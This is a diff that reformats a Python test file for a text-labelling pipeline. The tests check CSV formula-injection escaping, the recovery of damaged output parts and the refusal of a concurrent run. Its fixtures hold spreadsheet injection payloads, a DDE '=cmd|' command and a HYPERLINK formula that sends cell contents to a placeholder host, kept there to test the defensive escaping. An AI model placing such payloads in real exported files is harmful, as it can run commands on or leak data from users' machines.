@@ -18,8 +18,15 @@ from pipeline.batch import BatchError, LabelOptions, LocalEngine, label_file, mo
 from pipeline.spreadsheet_safety import escape_cell
 
 REPO = Path(__file__).resolve().parents[1]
-FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Clic")', "=cmd|' /C notepad'!A1", "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1,"Clic")',
+    "=cmd|' /C notepad'!A1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture(scope="module")
@@ -42,8 +49,15 @@ def interrupted(engine, tiny_model, source: Path, output: Path, after: int, **op
             raise KeyboardInterrupt
 
     with pytest.raises(KeyboardInterrupt):
-        label_file(source, output, engine, model_manifest(tiny_model), LabelOptions(**options), progress=False,
-                   after_chunk=stop)
+        label_file(
+            source,
+            output,
+            engine,
+            model_manifest(tiny_model),
+            LabelOptions(**options),
+            progress=False,
+            after_chunk=stop,
+        )
 
 
 # ------------------------------------------------------------------------------------------ formula injection
@@ -63,14 +77,16 @@ def test_label_csv_output_escapes_formula_cells(engine, tiny_model, texts, tmp_p
     source = tmp_path / "in.csv"
     cells = [*FORMULAS, "El pedido no llega y nadie contesta."]
     # "\r\n" line ends make the writer quote the cell holding a bare "\r", as spreadsheets write it.
-    pd.DataFrame({"=id": [f"=A{i}" for i in range(len(cells))], "texto": cells, "saldo": ["-12.50"] * len(cells)}
-                 ).to_csv(source, index=False, lineterminator="\r\n")
+    pd.DataFrame(
+        {"=id": [f"=A{i}" for i in range(len(cells))], "texto": cells, "saldo": ["-12.50"] * len(cells)}
+    ).to_csv(source, index=False, lineterminator="\r\n")
     output = tmp_path / "out.csv"
     label(engine, tiny_model, source, output)
     result = pd.read_csv(output, dtype=str, keep_default_na=False)
     assert list(result.columns[:3]) == ["'=id", "texto", "saldo"]
-    for value in result.drop(columns=["sentiment_score", *[c for c in result if c.startswith("score_")]]).to_numpy(
-    ).ravel():
+    for value in (
+        result.drop(columns=["sentiment_score", *[c for c in result if c.startswith("score_")]]).to_numpy().ravel()
+    ):
         assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-12.50", value
     assert result["texto"].tolist()[:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
     assert result["saldo"].tolist()[0] == "-12.50"
@@ -88,8 +104,17 @@ def test_report_csv_escapes_formula_cells(tmp_path):
     from pipeline.batch import added_columns
 
     row = dict.fromkeys(added_columns())
-    row.update({"texto": "queja", "causes": "=HYPERLINK(\"http://x\")", "primary_cause": "=HYPERLINK(\"http://x\")",
-                "group": "operational", "sentiment": "negative", "sentiment_score": -0.5, "error": None})
+    row.update(
+        {
+            "texto": "queja",
+            "causes": '=HYPERLINK("http://x")',
+            "primary_cause": '=HYPERLINK("http://x")',
+            "group": "operational",
+            "sentiment": "negative",
+            "sentiment_score": -0.5,
+            "error": None,
+        }
+    )
     labelled.write_text(json.dumps(row) + "\n", encoding="utf-8")
     out = tmp_path / "informe.csv"
     write_report(labelled, out, fmt="csv")
@@ -103,15 +128,17 @@ def test_page_csv_download_escapes_formula_cells(tmp_path):
     if not node:
         pytest.skip("node is not installed")
     shutil.copy(REPO / "serve" / "static" / "js" / "csv.js", tmp_path / "csv.mjs")  # .mjs: node reads an ES module
-    script = 'import { csvCell } from "./csv.mjs";\n' \
-        "console.log(JSON.stringify(JSON.parse(process.argv[2]).map(csvCell)));\n"
+    script = (
+        'import { csvCell } from "./csv.mjs";\nconsole.log(JSON.stringify(JSON.parse(process.argv[2]).map(csvCell)));\n'
+    )
     (tmp_path / "cell.mjs").write_text(script, encoding="utf-8")
     values = [*FORMULAS, "-0.420", "hola", "a, b"]
-    out = subprocess.run([node, str(tmp_path / "cell.mjs"), json.dumps(values)], capture_output=True, text=True,
-                         check=True).stdout
+    out = subprocess.run(
+        [node, str(tmp_path / "cell.mjs"), json.dumps(values)], capture_output=True, text=True, check=True
+    ).stdout
     cells = json.loads(out)
     assert cells[0] == '"\'=HYPERLINK(""http://x/?""&A1,""Clic"")"'
-    assert cells[1:7] == ["'=cmd|' /C notepad'!A1", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "\"'\r=1+1\""]
+    assert cells[1:7] == ["'=cmd|' /C notepad'!A1", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", '"\'\r=1+1"']
     assert cells[7:] == ["-0.420", "hola", '"a, b"']
 
 
@@ -120,8 +147,13 @@ def test_page_csv_download_escapes_formula_cells(tmp_path):
 
 @pytest.mark.parametrize(
     "damage, ext",
-    [("truncate", ".csv"), ("random", ".jsonl"), ("garble_stats", ".parquet"), ("delete_stats", ".csv"),
-     ("truncate", ".parquet")],
+    [
+        ("truncate", ".csv"),
+        ("random", ".jsonl"),
+        ("garble_stats", ".parquet"),
+        ("delete_stats", ".csv"),
+        ("truncate", ".parquet"),
+    ],
 )
 def test_a_damaged_part_is_found_and_labelled_again(engine, tiny_model, texts, tmp_path, damage, ext, caplog):
     source = tmp_path / "in.csv"
@@ -141,8 +173,15 @@ def test_a_damaged_part_is_found_and_labelled_again(engine, tiny_model, texts, t
     else:
         stats.write_text("{not json", encoding="utf-8")
     redone: list[int] = []
-    summary = label_file(source, output, engine, model_manifest(tiny_model), LabelOptions(chunk_size=7),
-                         progress=False, after_chunk=redone.append)
+    summary = label_file(
+        source,
+        output,
+        engine,
+        model_manifest(tiny_model),
+        LabelOptions(chunk_size=7),
+        progress=False,
+        after_chunk=redone.append,
+    )
     assert redone == [1, 3, 4]
     assert summary.rows == len(texts) and summary.resumed_rows == 14
     assert output.read_bytes() == reference.read_bytes()
@@ -172,8 +211,22 @@ def test_a_second_run_on_the_same_output_is_refused_clearly(tiny_model, corpus_r
     source = tmp_path / "in.csv"
     pd.DataFrame({"texto": [r.text for r in corpus_records[:30]]}).to_csv(source, index=False)
     output = tmp_path / "out.jsonl"
-    command = [sys.executable, "-m", "pipeline.cli", "label", str(source), "-o", str(output), "--model",
-               str(tiny_model), "--device", "cpu", "--chunk-size", "5", "--no-progress"]
+    command = [
+        sys.executable,
+        "-m",
+        "pipeline.cli",
+        "label",
+        str(source),
+        "-o",
+        str(output),
+        "--model",
+        str(tiny_model),
+        "--device",
+        "cpu",
+        "--chunk-size",
+        "5",
+        "--no-progress",
+    ]
     with FileLock(str(output) + ".lock", timeout=0):
         second = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300)
     assert second.returncode != 0
